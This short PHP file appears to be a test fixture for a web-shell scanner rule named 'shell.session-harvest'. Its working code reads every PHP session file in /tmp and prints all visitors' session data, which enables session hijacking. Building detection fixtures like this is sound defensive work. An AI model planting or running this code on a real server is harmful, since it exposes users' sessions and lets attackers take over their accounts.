<?php
// Harmless test sample for shell.session-harvest: lists the shared session folder and prints
// every visitor's PHP session data (session hijacking). Never deployed; the tests only read it.
$all = '';
if ($dir = @opendir('/tmp')) {
    while (($name = readdir($dir)) !== false) {
        if (is_file("/tmp/$name") && strpos($name, 'sess_') === 0) {
            $fh = fopen("/tmp/$name", 'r');
            while (!feof($fh)) {
                $all .= fgets($fh, 1024);
            }
            fclose($fh);
        }
    }
    closedir($dir);
}
foreach (explode(';', $all) as $pair) {
    echo htmlspecialchars($pair), "<br>\n";
}
